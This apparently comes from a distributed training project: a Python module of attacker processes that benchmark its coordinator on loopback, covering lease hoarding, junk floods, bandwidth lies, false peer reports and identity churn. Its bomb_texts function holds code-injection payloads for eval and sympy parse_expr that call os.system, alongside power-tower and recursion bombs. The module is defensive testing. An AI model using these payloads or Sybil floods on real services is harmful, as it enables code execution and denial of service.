"""Attackers for benchmarks/attack.py: each kind runs as its own process against a live swarm.

Run as ``python -m echo.tools.attackers KIND --coordinator MADDR --job JOB --stats FILE [--peer
MADDR ...]``; the process attacks until SIGINT/SIGTERM and keeps FILE up to date with what it
did (JSON: requests, answers, errors, bytes, identities, and per kind what the coordinator
answered). Kinds (issues 13 and 26, "Measure it"):

- ``hoard``: 16 fresh identities register and ask for every lease they can, never submitting;
- ``junk``: 8 streams of junk submissions from unregistered peers, a new identity whenever the
  coordinator closes one off;
- ``leech``: one identity pulls the current version's chunks from the learner and every
  ``--peer`` over and over, keeping nothing;
- ``leech24``: the same from :data:`LEECH24_IDENTITIES` identities at once, all behind one
  address (one network: what per-network byte budgets are for);
- ``liar``: a real node (it does a little honest work, 200 tokens/s) that claims a 100 GB/s
  uplink, at registration and in every status report, while it relays at 20 kB/s;
- ``gossip``: publishes junk on the versions topic to every ``--peer`` as fast as it can;
- ``churn`` (also benchmarks/soak.py): ``--rate`` new identities a second, each registering,
  taking a lease it lets expire and sending one junk submission, then gone for good;
- ``bomb``: :data:`BOMBERS` registered identities that take leases and submit well-formed,
  correctly signed groups whose completions are scorer bombs (:func:`bomb_texts`: code for
  ``eval`` and sympy's ``parse_expr``, power towers, deep nesting, the longest text a lease
  admits), encoded as token ids of the job's own tokenizer so that the coordinator decodes
  exactly that text and hands it to its scorers. An identity the coordinator stops serving
  (budget spent, excluded, no more leases) is replaced by a fresh one. The code payloads try
  to write files under ``--marker-dir``: any file there afterwards is code that ran outside
  the scoring sandbox;
- ``stale``: :data:`STALE_HOARDERS` real nodes (torch engine) that do honest work until
  ``--warm-groups`` of their groups were accepted, then answer each grant by holding its leases
  until just before their deadline and sending one stale-version submission for the first
  (issue 26, finding 2: such a submission used to forgive the whole grant);
- ``demote``: :data:`DEMOTERS` merely registered identities that keep filing bad-chunk reports
  against every ``--peer`` (the honest relays), to have them planned as leaves.

``--source-ip`` makes every connection leave from that address; a network (``127.1.0.0/16``)
gives each new identity the next address in it, a network of its own (loopback is a network
per address when the coordinator runs with ``[admission] loopback_is_network``).

Only for loopback benchmarks: nothing here is part of the shipped programs.
"""

from __future__ import annotations

import argparse
import contextvars
import ipaddress
import itertools
import json
import os
import re
import sys
import time
import traceback
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path
from typing import Any

import trio

from echo.node.config import NodeConfig
from echo.node.errors import NodeError
from echo.p2p.host import EchoHost, open_host
from echo.p2p.identity import Identity
from echo.p2p.lifecycle import run_until_signalled
from echo.p2p.rpc import RpcError
from echo.protocol import broadcast as b
from echo.protocol import ids, signing
from echo.protocol import messages as m
from echo.protocol.errors import ProtocolError

HOARDERS = 16
JUNK_STREAMS = 8
JUNK_BYTES = 64 << 10
GOSSIP_BYTES = 2 << 10
LIAR_CLAIM_BPS = 1e11
LIAR_REAL_MBPS = 0.02
LIAR_TOKENS_PER_S = 200.0
# A refused connection (the coordinator's handshake rate and connection cap for the attackers'
# network) is tried again after this long: an attacker does not give up after one refusal.
RETRY_S = 2.0
# Several identities behind one address: the finding's 8 identities on one /24 pulled 4.6 GB in
# 10 s, 5x what one identity pulled; per-identity budgets alone do not stop that.
LEECH24_IDENTITIES = 8
# Scorer bombs in flight at once. Each fresh identity gets one lease (a node earns more with
# accepted groups), so more bombers means more bombs per second at the shared scoring slot.
BOMBERS = 4
# A bomber that got this many replies in a row without a lease, or one refusal that names its
# identity (budget spent, excluded), starts over as someone else: identities are free.
BOMBER_EMPTY_REPLIES = 5
# The finding's hoarders had 21 accepted groups; a node's lease quota grows by one per 3 valid
# groups (``[verification] lease_quota_ramp``), so 3 buys a quota of 2: the three hold 6 of
# the default window of 8. Few enough to earn within a quick benchmark's settling time on the
# attackers' shared core.
STALE_HOARDERS = 3
STALE_WARM_GROUPS = 3
# A turned hoarder sends its stale submission this long before the grant's deadline: the
# leases stay out of the job's window for as long as they can without expiring. With 3 s, a
# coordinator slowed by the other attackers (2-3 s per call) got it after the deadline.
STALE_HOLD_MARGIN_S = 8.0
# The finding's demotion needed bad-chunk reports from 3 registered identities.
DEMOTERS = 4
DEMOTE_EVERY_S = 2.0
# churn: visits in flight at once. On the attackers' one core a visit (a key, a Noise handshake,
# three calls) can take longer than 1/rate; beyond this many the next one waits, so what is
# reported as ``identities_per_s`` is the rate actually reached.
CHURN_IN_FLIGHT = 64


class Stats:
    """Counters one attacker keeps, written to ``path`` every second (and at the end)."""

    def __init__(self, path: Path, kind: str) -> None:
        self.path = path
        self.t0 = time.monotonic()
        self.data: dict[str, Any] = {
            "kind": kind,
            "requests": 0,
            "answered": 0,
            "errors": 0,
            "bytes_in": 0,
            "identities": 0,
            "leases_held": 0,
        }

    def add(self, key: str, n: int = 1) -> None:
        self.data[key] = self.data.get(key, 0) + n

    def count(self, table: str, key: str, n: int = 1) -> None:
        """One more ``key`` in the sub-table ``table`` (reasons, outcomes)."""
        t = self.data.setdefault(table, {})
        t[key] = t.get(key, 0) + n

    async def keep_written(self) -> None:
        while True:
            self.write()
            await trio.sleep(1.0)

    def write(self) -> None:
        elapsed = time.monotonic() - self.t0
        self.data["elapsed_s"] = round(elapsed, 1)
        self.data["identities_per_s"] = round(self.data["identities"] / max(elapsed, 1e-9), 2)
        tmp = self.path.with_suffix(".tmp")
        tmp.write_text(json.dumps(self.data))
        os.replace(tmp, self.path)


# ---------------------------------------------------------------- where connections come from

# The address this task's connections leave from (None: the kernel's choice). A context
# variable, so that a churn visit or a leech identity can have an address of its own while the
# others keep theirs: trio tasks inherit it from the task that started them, and a host's
# connections are opened from tasks its ``open_host`` block started.
_SOURCE: contextvars.ContextVar[str | None] = contextvars.ContextVar("source", default=None)


def _dial_from(source: str) -> Callable[[], str]:
    """Every TCP connection this process opens leaves from ``source`` (py-libp2p's TCP
    transport dials with ``trio.open_tcp_stream``, looked up on each dial). ``source`` is an
    address, or a network whose addresses are handed out in turn; returns the function that
    hands out the next one (always the same address for an address)."""
    net = ipaddress.ip_network(source, strict=False)
    hosts: Iterator[Any] = itertools.cycle(net.hosts()) if net.num_addresses > 1 else iter(())
    first = str(next(hosts)) if net.num_addresses > 1 else str(net.network_address)

    def next_address() -> str:
        return str(next(hosts)) if net.num_addresses > 1 else first

    _SOURCE.set(first)
    real = trio.open_tcp_stream

    async def open_from(host, port, **kw):
        source_ip = _SOURCE.get()
        if source_ip:
            kw.setdefault("local_address", source_ip)
        return await real(host, port, **kw)

    trio.open_tcp_stream = open_from
    return next_address


_next_source: Callable[[], str] | None = None


def _listen() -> list[str]:
    """Where a host listens: the address it dials from, as a machine there would (a node whose
    declared address is not the one it dials from is taken for one behind NAT, which changes
    how the coordinator treats it)."""
    return [f"/ip4/{_SOURCE.get() or '127.0.0.1'}/tcp/0"]


def _new_source() -> None:
    """The calling task (and what it starts) dials from the next address of ``--source-ip``'s
    network: a fresh identity from a network of its own."""
    if _next_source is not None:
        _SOURCE.set(_next_source())


# ---------------------------------------------------------------- shared calls


def _register(ident: Identity, host: EchoHost, upload_bps: float = 0.0) -> bytes:
    reg = m.Register(
        protocol_version=ids.PROTOCOL_VERSION,
        software="attacker",
        engine="torch",
        hardware=m.Hardware(cpu_count=8, ram_bytes=1 << 34),
        tokens_per_s=0.0,
        upload_bps=upload_bps,
        download_bps=0.0,
        timestamp=time.time(),
        addrs=host.listen_multiaddrs,
    )
    return signing.seal_record(ident.private_key, reg)


async def _call(
    host: EchoHost, peer, proto: str, payload: bytes, stats: Stats, timeout: float = 10.0
) -> bytes | None:
    stats.add("requests")
    try:
        reply = await host.request(peer, proto, payload, timeout=timeout, max_response=16 << 20)
    except (RpcError, ProtocolError, OSError) as exc:
        stats.add("errors")
        # What refused us (a budget, an exclusion), numbers left out, for the summary.
        why = getattr(exc, "message", "") or type(exc).__name__
        stats.count("refusals", re.sub(r"[0-9.]+", "#", why)[:48])
        return None
    stats.add("answered")
    return reply


async def _connect(host: EchoHost, addr: str, stats: Stats, tries: int = 1):
    """The peer at ``addr``, or None after ``tries`` refused dials (RETRY_S apart)."""
    for attempt in range(tries):
        if attempt:
            await trio.sleep(RETRY_S)
        try:
            return await host.connect(addr)
        except (RpcError, ValueError, OSError):
            stats.add("errors")
    return None


async def _job_info(host: EchoHost, peer, ident: Identity, job_id: str, stats: Stats):
    """Register ``ident``; the job's JobInfo (None when refused or not listed)."""
    data = await _call(host, peer, ids.PROTO_REGISTER, _register(ident, host), stats)
    if data is None:
        return None
    return next((j for j in m.decode(m.RegisterReply, data).jobs if j.job_id == job_id), None)


async def _manifest(host: EchoHost, peer, job_id: str, stats: Stats) -> m.Manifest | None:
    """The job's newest signed manifest (its version and state digest are what a submission
    must name), unverified: the attacker has no reason to check the learner's signature."""
    data = await _call(
        host,
        peer,
        ids.PROTO_MANIFEST,
        m.encode(m.ManifestRequest(job_id=job_id, version=-1)),
        stats,
    )
    if data is None:
        return None
    return signing.open_record(data, m.Manifest)[1]


# ---------------------------------------------------------------- issue 13's attackers


async def hoard(args, stats: Stats) -> None:
    """16 fresh identities, each asking for as many leases as it may, forever. Each says it
    holds the version the last reply named, so it is never told to update first."""

    async def one(task_status=trio.TASK_STATUS_IGNORED) -> None:
        ident = Identity.generate()
        async with open_host(ident, _listen(), pubsub=False) as host:
            stats.add("identities")
            task_status.started()
            peer, misses, have = None, 0, 0
            while True:
                if peer is None:  # refused at the door (a prefix's handshake rate), or cut off
                    try:
                        peer = await host.connect(args.coordinator)
                    except (RpcError, OSError):
                        stats.add("errors")
                        await trio.sleep(1.0)
                        continue
                    misses = 0
                registered = await _call(
                    host, peer, ids.PROTO_REGISTER, _register(ident, host), stats
                )
                req = m.LeaseRequest(
                    job_id=args.job, max_leases=8, have_version=have, timestamp=time.time()
                )
                data = await _call(
                    host, peer, ids.PROTO_LEASE, signing.seal_record(ident.private_key, req), stats
                )
                wait = 1.0
                if data is not None:
                    reply = m.decode(m.LeaseReply, data)
                    stats.add("leases_held", len(reply.leases))
                    have = max(have, reply.current_version)
                    wait = max(0.5, min(reply.retry_after_s, 5.0))
                misses = 0 if registered is not None or data is not None else misses + 1
                if misses >= 5:
                    peer = None
                await trio.sleep(wait)

    async with trio.open_nursery() as nursery:
        for _ in range(HOARDERS):
            await nursery.start(one)


async def junk(args, stats: Stats) -> None:
    """8 unregistered streams of junk submissions; a fresh identity when one is shut out."""

    async def stream() -> None:
        while True:
            async with open_host(Identity.generate(), _listen(), pubsub=False) as host:
                try:
                    peer = await host.connect(args.coordinator)
                except (RpcError, OSError):  # refused at the door: try again as someone else
                    stats.add("errors")
                    await trio.sleep(0.1)
                    continue
                stats.add("identities")
                failures = 0
                while failures < 5:  # closed off or backed off: come back as someone else
                    body = os.urandom(JUNK_BYTES)
                    failures = (
                        0
                        if await _call(host, peer, ids.PROTO_SUBMIT, body, stats)
                        else failures + 1
                    )

    async with trio.open_nursery() as nursery:
        for _ in range(JUNK_STREAMS):
            nursery.start_soon(stream)


async def leech(args, stats: Stats) -> None:
    """Pull the newest version's chunks from the learner and every ``--peer``, forever."""
    await _leech_one(args, stats)


async def leech24(args, stats: Stats) -> None:
    """:data:`LEECH24_IDENTITIES` leeches at once, all from ``--source-ip`` (one network)."""
    async with trio.open_nursery() as nursery:
        for _ in range(LEECH24_IDENTITIES):
            nursery.start_soon(_leech_one, args, stats)


async def _leech_one(args, stats: Stats) -> None:
    ident = Identity.generate()
    async with open_host(ident, _listen(), pubsub=False) as host:
        while True:
            try:
                coord = await host.connect(args.coordinator)
                break
            except (RpcError, OSError):
                stats.add("errors")
                await trio.sleep(RETRY_S)
        stats.add("identities")
        while True:
            reply = await _call(host, coord, ids.PROTO_REGISTER, _register(ident, host), stats)
            man = await _call(
                host,
                coord,
                ids.PROTO_MANIFEST,
                m.encode(m.ManifestRequest(job_id=args.job, version=-1)),
                stats,
            )
            if reply is None or man is None:
                await trio.sleep(1.0)
                continue
            job = next(j for j in m.decode(m.RegisterReply, reply).jobs if j.job_id == args.job)
            _, manifest = signing.open_record(man, m.Manifest)
            holders = []
            for addr in [*job.learner_addrs[:1], *args.peer]:
                try:
                    holders.append(await host.connect(addr))
                except (RpcError, ValueError, OSError):
                    stats.add("errors")
            for _ in range(20):  # then look for a newer version
                for holder in holders:
                    for ref in manifest.chunks:
                        got = await _call(
                            host,
                            holder,
                            ids.PROTO_CHUNK,
                            m.encode(m.ChunkRequest(sha256=ref.sha256)),
                            stats,
                        )
                        stats.add("bytes_in", len(got or b""))
                await trio.sleep(0)


def _liar(cfg: NodeConfig, stats: Stats) -> Any:
    """The liar node (the node module, torch included, is imported only by the kinds that
    run a real node: the others start in a fraction of the time)."""
    from echo.node.policy import PolicyFollower
    from echo.node.worker import Node

    class Liar(Node):
        """A real node that does honest work but claims an uplink it does not have: at
        registration, and as its "measured" push rate in every status report."""

        def __init__(self, cfg: NodeConfig, stats: Stats) -> None:
            super().__init__(cfg)
            self.attack_stats = stats

        async def _submit(self, payload: bytes) -> m.SubmitReply | None:
            reply = await super()._submit(payload)
            if reply is not None:  # its honest work keeps it in the job's relay tree
                self.attack_stats.add("groups_accepted" if reply.accepted else "groups_rejected")
            return reply

        def _register_record(self) -> m.Register:
            return super()._register_record().model_copy(update={"upload_bps": LIAR_CLAIM_BPS})

        def _follower(self) -> PolicyFollower:
            follower = super()._follower()
            follower.measure_upload = lambda: LIAR_CLAIM_BPS  # type: ignore[method-assign]
            return follower

    return Liar(cfg, stats)


async def liar(args, stats: Stats) -> None:
    # It generates a little (enough to be placed in the job's relay tree), as a relay would.
    cfg = NodeConfig(
        coordinator=args.coordinator,
        data_dir=args.data_dir,
        engine="torch",
        threads=1,
        leases_at_once=1,
        max_upload_mbps=LIAR_REAL_MBPS,
        max_tokens_per_s=LIAR_TOKENS_PER_S,
        listen=_listen()[0],
    )
    stats.add("identities")
    stats.data.update(claimed_upload_bps=LIAR_CLAIM_BPS, groups_accepted=0)
    await _run_node(lambda: _liar(cfg, stats), stats)


async def _run_node(make: Callable[[], Any], stats: Stats) -> None:
    """Run the node ``make`` builds, again whenever the coordinator refuses it at the door."""
    while True:
        try:
            await make().run()
            return
        except BaseException as exc:  # refused at the door: try again, as an attacker would
            if not _refused(exc):
                raise
            stats.add("errors")
            await trio.sleep(RETRY_S)


def _refused(exc: BaseException) -> bool:
    """Whether ``exc`` (or every error a nursery gathered in it) says the coordinator could not
    be reached."""
    if isinstance(exc, BaseExceptionGroup):
        return all(_refused(e) for e in exc.exceptions)
    return isinstance(exc, NodeError) and "cannot reach the coordinator" in str(exc)


async def gossip(args, stats: Stats) -> None:
    """Junk on the versions topic, to every ``--peer``, as fast as pubsub takes it."""
    async with open_host(Identity.generate(), _listen()) as host:
        for addr in [args.coordinator, *args.peer]:
            try:
                await host.connect(addr)
            except (RpcError, ValueError, OSError):
                stats.add("errors")
        stats.add("identities")
        await host.subscribe(ids.TOPIC_VERSIONS)
        while True:
            stats.add("requests")
            try:
                await host.publish(ids.TOPIC_VERSIONS, os.urandom(GOSSIP_BYTES))
                stats.add("answered")
            except Exception:  # noqa: BLE001 (a junk publisher counts failures, whatever they are)
                stats.add("errors")
            await trio.sleep(0.002)


async def churn(args, stats: Stats) -> None:
    """Identities that come and go (benchmarks/soak.py): ``--rate`` a second, each registers,
    takes a lease it lets expire, sends one junk submission and is never heard from again."""
    room = trio.CapacityLimiter(CHURN_IN_FLIGHT)
    next_at = trio.current_time()
    async with trio.open_nursery() as nursery:
        while True:
            token = object()  # the visit's hold on ``room``, released when it ends
            await room.acquire_on_behalf_of(token)
            nursery.start_soon(_one_visit, args, stats, room, token)
            next_at = max(next_at + 1.0 / args.rate, trio.current_time())
            await trio.sleep_until(next_at)


async def _one_visit(args, stats: Stats, room: trio.CapacityLimiter, token: object) -> None:
    _new_source()
    ident = Identity.generate()
    # Caught inside the host's block too: an error leaving it comes out of the host's nursery
    # as an ExceptionGroup, which ended the whole churn process (a soak lost its churn at 50 s).
    try:
        async with open_host(ident, _listen(), pubsub=False) as host:
            try:
                peer = await host.connect(args.coordinator)
            except (RpcError, OSError):
                stats.add("errors")
                return
            stats.add("identities")
            job = await _job_info(host, peer, ident, args.job, stats)
            req = m.LeaseRequest(
                job_id=args.job,
                max_leases=2,
                # The job's version: an identity that says it holds an older one is only told
                # to update first, and never takes the lease it came for.
                have_version=max(0, job.current_version) if job is not None else 0,
                timestamp=time.time(),
            )
            data = await _call(
                host, peer, ids.PROTO_LEASE, signing.seal_record(ident.private_key, req), stats
            )
            if data is not None:
                stats.add("leases_held", len(m.decode(m.LeaseReply, data).leases))
            await _call(host, peer, ids.PROTO_SUBMIT, os.urandom(4096), stats)
    except (RpcError, OSError, ProtocolError):
        stats.add("errors")
    finally:
        room.release_on_behalf_of(token)


# ---------------------------------------------------------------- issue 26's attackers


def bomb_texts(room: int, marker_dir: Path | None = None) -> list[tuple[str, str]]:
    """Hostile completions, ``(name, text)``, each at most ``room`` characters (the longest
    that fits a lease; longer payloads are left out).

    Most are the answer in ``<answer>`` tags, which is what the gym and math scorers extract
    (:func:`echo.tasks.rewards.final_answer`). The code payloads write a file under
    ``marker_dir`` (that they do is the proof they ran outside a sandbox: it has no
    filesystem); without one they only reach for ``os``.
    """

    def tag(s: str) -> str:
        return f"<answer>{s}</answer>"

    inner = room - len(tag(""))

    def mark(name: str) -> str:
        return str(marker_dir / name) if marker_dir is not None else f"/nonexistent/{name}"

    texts = [
        # eval() in spiral_matrix, string_insertion, n_queens, binary_matrix: the finding's
        # reproduction, the coordinator's pid written to a file.
        (
            "eval_write",
            tag(f"open({mark('eval_write')!r},'w').write(str(__import__('os').getpid()))"),
        ),
        ("eval_system", tag(f"__import__('os').system('touch {mark('eval_system')}')")),
        # sympy's parse_expr (countdown, puzzle24, polynomial_multiplication, integration)
        # evaluates its input with builtins in reach.
        ("sympy_code", tag(f"x+__import__('os').system('touch {mark('sympy_code')}')")),
        # A power tower: eval and sympy try to compute it; math-verify's LaTeX one too.
        ("power_tower", tag("9**9**9**9")),
        ("latex_tower", tag("\\boxed{9^{9^{9^{9^{9}}}}}")),
        ("factorial", tag("\\boxed{(10^{10^{10}})!}")),
        # Memory and time in the scorer's process.
        ("memory", tag("[0]*10**12")),
        ("sleep", tag("__import__('time').sleep(10**6)")),
        ("spin", tag("[x for x in iter(int,1)]")),
        ("recursion", tag("(lambda f:f(f))(lambda f:f(f))")),
        # Deep nesting: parsers and sympy's transformations recurse per level.
        ("deep_brackets", tag("[" * (inner // 2) + "]" * (inner // 2))),
        ("deep_parens", tag("(" * (inner // 2 - 1) + "1" + ")" * (inner // 2 - 1))),
        ("deep_latex", "\\boxed{" + "{" * ((room - 8) // 2) + "}" * ((room - 8) // 2) + "}"),
        ("unary_chain", tag("-" * (inner - 1) + "1")),
        # The longest text a lease admits: a huge number and a last line without tags.
        ("long_digits", tag("9" * inner)),
        ("long_line", "x" * room),
    ]
    return [(name, text) for name, text in texts if len(text) <= room]


class Encoder:
    """Token ids the coordinator decodes back to a given text, for the job's model: the byte
    tokenizer of the tiny model, or an ``hf`` model's own tokenizer (its local path: on
    loopback the attacker shares the coordinator's disk)."""

    def __init__(self, model: dict[str, Any]) -> None:
        from echo.models.spec import ModelSpec, decode_completion, eos_token_id, load_tokenizer

        self.spec = ModelSpec.from_dict(model)
        self.tokenizer = None if self.spec.kind == "tiny" else load_tokenizer(self.spec)
        self.eos = eos_token_id(self.spec)
        self._decode = decode_completion

    def encode(self, text: str) -> list[int]:
        if self.tokenizer is None:
            from echo.models.tokenizer import encode

            return encode(text)
        return list(self.tokenizer(text, add_special_tokens=False).input_ids)

    def decode(self, token_ids: list[int]) -> str:
        return self._decode(self.spec, token_ids, self.tokenizer)

    def completion(self, text: str, max_new_tokens: int) -> m.CompletionRecord:
        """``text`` as one completion a lease of ``max_new_tokens`` admits: ended by EOS when it
        fits, else cut to exactly ``max_new_tokens`` (finish "length", no EOS), as a real
        engine reports them. Log-probs are made up: the coordinator only bounds them."""
        ids_ = [i for i in self.encode(text) if i != self.eos]
        if len(ids_) < max_new_tokens:
            ids_, finish = [*ids_, self.eos], "stop"
        else:
            ids_, finish = ids_[:max_new_tokens], "length"
        return m.CompletionRecord(
            token_ids=m.pack_tokens(ids_),
            logprobs=m.pack_logprobs([-1.0] * len(ids_)),
            finish_reason=finish,
        )


def bomb_submission(
    lease: m.Lease, manifest: m.Manifest, encoder: Encoder, texts: list[str]
) -> m.Submission:
    """A well-formed group for ``lease`` at the manifest's version whose completions are
    ``texts`` (cycled to the group's size)."""
    return m.Submission(
        lease_id=lease.lease_id,
        job_id=lease.job_id,
        version=manifest.version,
        engine="torch",
        state_digest=manifest.state_digest,
        completions=[
            encoder.completion(texts[i % len(texts)], lease.sampling.max_new_tokens)
            for i in range(lease.group_size)
        ],
        gen_seconds=0.5,
    )


async def bomb(args, stats: Stats) -> None:
    """:data:`BOMBERS` identities submitting scorer bombs, each replaced when it is shut out."""
    groups = itertools.count()
    stats.data.update(groups_sent=0, groups_accepted=0)

    async def bomber() -> None:
        while True:
            try:
                await _bomb_as(Identity.generate(), args, stats, groups)
            except Exception as exc:  # noqa: BLE001 (an attacker carries on as someone else)
                stats.add("errors")
                stats.count("crashes", type(exc).__name__)
                if stats.data["crashes"][type(exc).__name__] <= 3:
                    traceback.print_exception(exc)
            await trio.sleep(0.2)

    async with trio.open_nursery() as nursery:
        for _ in range(BOMBERS):
            nursery.start_soon(bomber)


async def _bomb_as(ident: Identity, args, stats: Stats, groups: Iterator[int]) -> None:
    """One identity's bombing, until the coordinator stops serving it."""
    async with open_host(ident, _listen(), pubsub=False) as host:
        peer = await _connect(host, args.coordinator, stats)
        if peer is None:
            await trio.sleep(RETRY_S)
            return
        job = await _job_info(host, peer, ident, args.job, stats)
        if job is None:
            await trio.sleep(RETRY_S)
            return
        stats.add("identities")
        encoder = Encoder(job.model)
        empty = 0
        while empty < BOMBER_EMPTY_REPLIES:
            manifest = await _manifest(host, peer, args.job, stats)
            if manifest is None:
                empty += 1
                await trio.sleep(1.0)
                continue
            req = m.LeaseRequest(
                job_id=args.job,
                max_leases=8,
                have_version=manifest.version,
                timestamp=time.time(),
            )
            data = await _call(
                host, peer, ids.PROTO_LEASE, signing.seal_record(ident.private_key, req), stats
            )
            reply = m.decode(m.LeaseReply, data) if data is not None else None
            if reply is None or not reply.leases:
                empty += 1
                await trio.sleep(max(0.5, min(reply.retry_after_s if reply else 1.0, 5.0)))
                continue
            empty = 0
            stats.add("leases_held", len(reply.leases))
            for sealed in reply.leases:
                lease = signing.open_record(sealed, m.Lease)[1]
                payloads = bomb_texts(lease.sampling.max_new_tokens - 1, args.marker_dir)
                # Each group starts at another payload: the sandbox gives up on a group after
                # two texts killed its scorer, so every payload gets to go first in some group.
                k = next(groups)
                texts = [payloads[(k + i) % len(payloads)][1] for i in range(len(payloads))]
                sub = bomb_submission(lease, manifest, encoder, texts)
                got = await _call(
                    host,
                    peer,
                    ids.PROTO_SUBMIT,
                    signing.seal_record(ident.private_key, sub),
                    stats,
                    timeout=60.0,
                )
                stats.add("groups_sent")
                if got is None:
                    return
                verdict = m.decode(m.SubmitReply, got)
                stats.count("verdicts", verdict.reason)
                if verdict.accepted:
                    stats.add("groups_accepted")
                # "3 of 8 completions scored 0: scorer_crashed, scorer_timeout"
                for outcome in verdict.detail.partition(": ")[2].split(", "):
                    if outcome:
                        stats.count("outcomes", outcome)
                if verdict.reason in ("rate_limited", "node_excluded"):
                    return  # this identity is spent: come back as someone else


def _stale_hoarder(cfg: NodeConfig, stats: Stats, warm_groups: int) -> Any:
    """A stale-version hoarder node (imported late, as in :func:`_liar`)."""
    from echo.node.worker import Node

    class StaleHoarder(Node):
        """A real node that earns a quota with honest groups, then hoards: it holds each grant's
        leases until just before their deadline and sends one stale-version submission for the
        first, nothing for the rest."""

        def __init__(self, cfg: NodeConfig, stats: Stats, warm_groups: int) -> None:
            super().__init__(cfg)
            self.attack_stats, self.warm_groups = stats, warm_groups
            self.turned = False
            self.staleness = 0

        async def _lease_loop(self, job: m.JobInfo, vocab: int, sync) -> None:
            self.staleness = job.staleness
            await super()._lease_loop(job, vocab, sync)

        async def _submit(self, payload: bytes) -> m.SubmitReply | None:
            reply = await super()._submit(payload)
            if reply is not None and not self.turned:
                self.attack_stats.add("warm_accepted" if reply.accepted else "warm_rejected")
                if self.stats.accepted >= self.warm_groups:
                    self.turned = True
                    self.attack_stats.add("turned")
            return reply

        async def _work(self, work: list[tuple[m.Lease, list[int]]], sync) -> None:
            stale = sync.version - self.staleness - 1
            if not self.turned or stale < 0:
                await super()._work(work, sync)
                return
            leases = [lease for lease, _ in work]
            self.attack_stats.add("grants")
            self.attack_stats.add("leases_held", len(leases))
            hold = min(lease.deadline for lease in leases) - time.time() - STALE_HOLD_MARGIN_S
            await trio.sleep(max(0.0, hold))
            sub = m.Submission(
                lease_id=leases[0].lease_id,
                job_id=leases[0].job_id,
                version=stale,
                engine=self.report_engine,
                state_digest=sync.digest,
                completions=[
                    m.CompletionRecord(
                        token_ids=m.pack_tokens([2]),
                        logprobs=m.pack_logprobs([-1.0]),
                        finish_reason="stop",
                    )
                ],
                gen_seconds=0.1,
            )
            reply = await self._submit(self.encode_submission(sub))
            if reply is not None:
                self.attack_stats.count("verdicts", reply.reason)

    return StaleHoarder(cfg, stats, warm_groups)


async def stale(args, stats: Stats) -> None:
    stats.data.update(warm_accepted=0, turned=0, grants=0)
    async with trio.open_nursery() as nursery:
        for i in range(STALE_HOARDERS):
            cfg = NodeConfig(
                coordinator=args.coordinator,
                data_dir=args.data_dir / f"stale-{i}",
                engine="torch",
                threads=1,
                leases_at_once=8,
                listen=_listen()[0],
            )
            stats.add("identities")
            nursery.start_soon(
                _run_node, lambda cfg=cfg: _stale_hoarder(cfg, stats, args.warm_groups), stats
            )


async def demote(args, stats: Stats) -> None:
    """:data:`DEMOTERS` registered identities reporting every ``--peer`` for bad chunks."""
    targets = [addr.rsplit("/p2p/", 1)[1] for addr in args.peer if "/p2p/" in addr]
    stats.data.update(reports_acked=0, reports_refused=0)

    async def demoter() -> None:
        ident = Identity.generate()
        async with open_host(ident, _listen(), pubsub=False) as host:
            peer = await _connect(host, args.coordinator, stats, tries=1 << 30)
            stats.add("identities")
            job = None
            while True:
                job = await _job_info(host, peer, ident, args.job, stats) or job
                for _ in range(15):  # registering again now and then keeps the node row alive
                    version = max(0, job.current_version if job else 0)
                    manifest = await _manifest(host, peer, args.job, stats)
                    if manifest is not None:
                        version = manifest.version
                    for target in targets:
                        report = b.BadPeerReport(
                            job_id=args.job,
                            version=version,
                            peer_id=target,
                            reason="bad_chunk",
                            chunk_index=0,
                            detail="chunk hash mismatch",
                        )
                        got = await _call(
                            host,
                            peer,
                            ids.PROTO_BAD_PEER,
                            signing.seal_record(ident.private_key, report),
                            stats,
                        )
                        stats.add("reports_acked" if got is not None else "reports_refused")
                    await trio.sleep(DEMOTE_EVERY_S)

    async with trio.open_nursery() as nursery:
        for _ in range(DEMOTERS):
            nursery.start_soon(demoter)


KINDS: dict[str, Callable[[argparse.Namespace, Stats], Awaitable[None]]] = {
    "hoard": hoard,
    "junk": junk,
    "leech": leech,
    "leech24": leech24,
    "liar": liar,
    "gossip": gossip,
    "churn": churn,
    "bomb": bomb,
    "stale": stale,
    "demote": demote,
}
# Kinds that run real nodes, each with its own folder under --data-dir.
NEEDS_DATA_DIR = ("liar", "stale")


def parse_args(argv: list[str] | None = None) -> argparse.Namespace:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    ap.add_argument("kind", choices=sorted(KINDS))
    ap.add_argument("--coordinator", required=True, help="the coordinator's multiaddr")
    ap.add_argument("--job", required=True, help="the job under attack")
    ap.add_argument("--stats", type=Path, required=True, help="JSON counters, kept up to date")
    ap.add_argument("--peer", action="append", default=[], help="an honest node's multiaddr")
    ap.add_argument(
        "--data-dir", type=Path, default=None, help="folder of the real nodes (liar, stale)"
    )
    ap.add_argument("--rate", type=float, default=5.0, help="churn: new identities a second")
    ap.add_argument(
        "--warm-groups",
        type=int,
        default=STALE_WARM_GROUPS,
        help="stale: accepted groups each hoarder earns before it turns",
    )
    ap.add_argument(
        "--marker-dir",
        type=Path,
        default=None,
        help="bomb: where its code payloads try to write (a file there: code ran unsandboxed)",
    )
    ap.add_argument(
        "--source-ip",
        default=None,
        help="dial from this local address (127.0.0.2: another network than the honest "
        "nodes'), or from a network's addresses in turn, one per new identity (127.1.0.0/16)",
    )
    args = ap.parse_args(argv)
    if args.kind in NEEDS_DATA_DIR and args.data_dir is None:
        ap.error(f"{args.kind} needs --data-dir")
    if args.rate <= 0:
        ap.error("--rate must be positive")
    if args.source_ip:
        try:
            ipaddress.ip_network(args.source_ip, strict=False)
        except ValueError as exc:
            ap.error(f"--source-ip: {exc}")
    return args


def main(argv: list[str] | None = None) -> int:
    global _next_source
    args = parse_args(argv)
    if args.source_ip:
        _next_source = _dial_from(args.source_ip)
    if args.marker_dir is not None:
        args.marker_dir = args.marker_dir.resolve()
    stats = Stats(args.stats, args.kind)

    async def run() -> None:
        # _SOURCE was set above, before trio.run, which runs every task in a copy of this
        # context.
        async with trio.open_nursery() as nursery:
            nursery.start_soon(stats.keep_written)
            await KINDS[args.kind](args, stats)

    try:
        run_until_signalled(run)
    finally:
        stats.write()
    return 0


if __name__ == "__main__":
    sys.exit(main())
